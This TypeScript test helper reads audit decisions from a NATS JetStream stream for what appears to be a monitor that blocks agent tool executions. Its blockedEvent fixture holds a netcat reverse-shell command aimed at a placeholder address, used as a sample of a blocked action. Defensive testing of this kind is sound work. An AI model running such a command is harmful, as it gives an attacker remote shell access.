// Reads what is in the streams.

import { jetstream, jetstreamManager } from "@nats-io/jetstream";
import type { NatsConnection } from "@nats-io/transport-node";
import { DECISIONS_STREAM, EVENTS_HEADER, partsOfKey } from "../../src/nats/names.js";

export interface DecidedMessage {
  readonly subject: string;
  readonly shipper: string;
  readonly sequence: number;
  readonly events: number;
  readonly revision: string;
  readonly worker: string;
  readonly audit: readonly Readonly<Record<string, unknown>>[];
}

export async function countOf(connection: NatsConnection, stream: string): Promise<number> {
  const manager = await jetstreamManager(connection);
  return (await manager.streams.info(stream)).state.messages;
}

/** All decisions in the order in which they are stored. */
export async function decisions(connection: NatsConnection): Promise<DecidedMessage[]> {
  const total = await countOf(connection, DECISIONS_STREAM);
  const found: DecidedMessage[] = [];
  if (total === 0) return found;
  const consumer = await jetstream(connection).consumers.get(DECISIONS_STREAM);
  const messages = await consumer.consume({ max_messages: 500 });
  for await (const message of messages) {
    const header = (name: string): string => message.headers?.get(name) ?? "";
    const key = partsOfKey(header("Nats-Msg-Id"));
    found.push({
      subject: message.subject,
      shipper: key?.shipper ?? "",
      sequence: key?.sequence ?? Number.NaN,
      events: Number(header(EVENTS_HEADER)),
      revision: header("Sentry-Revision"),
      worker: header("Sentry-Worker"),
      audit: message
        .string()
        .split("\n")
        .slice(0, -1)
        .map((line) => JSON.parse(line)),
    });
    if (found.length === total) break;
  }
  return found;
}

/** The keys of all decided events, each as often as it was decided. */
export function decidedKeys(messages: readonly DecidedMessage[]): string[] {
  return messages.flatMap(({ shipper, sequence, events }) =>
    Array.from({ length: events }, (_, index) => `${shipper}-${sequence + index}`),
  );
}

/** An event that is blocked, which names itself. */
export function blockedEvent(agent: string, number: number): string {
  const event = { ToolExec: { pid: 7, argv: ["/usr/bin/nc", "-e", "/bin/sh", "203.0.113.9", "4444"] } };
  return `${JSON.stringify({ identity: { agent }, id: `${agent}:${number}`, event })}\n`;
}

/** An event that is allowed. */
export function plainEvent(agent: string): string {
  return `${JSON.stringify({ identity: { agent }, event: { ToolExec: { pid: 7, argv: ["/usr/bin/true"] } } })}\n`;
}

/** Whether the ids of each agent's events, as {@link blockedEvent} makes them, are decided in their order. */
export function isInOrder(messages: readonly DecidedMessage[]): boolean {
  const last = new Map<string, number>();
  const seen = new Set<string>();
  for (const { audit } of messages) {
    for (const { id, key } of audit) {
      if (id === undefined || seen.has(String(key))) continue;
      seen.add(String(key));
      const [agent = "", number = ""] = String(id).split(":");
      if (Number(number) <= (last.get(agent) ?? -1)) return false;
      last.set(agent, Number(number));
    }
  }
  return true;
}
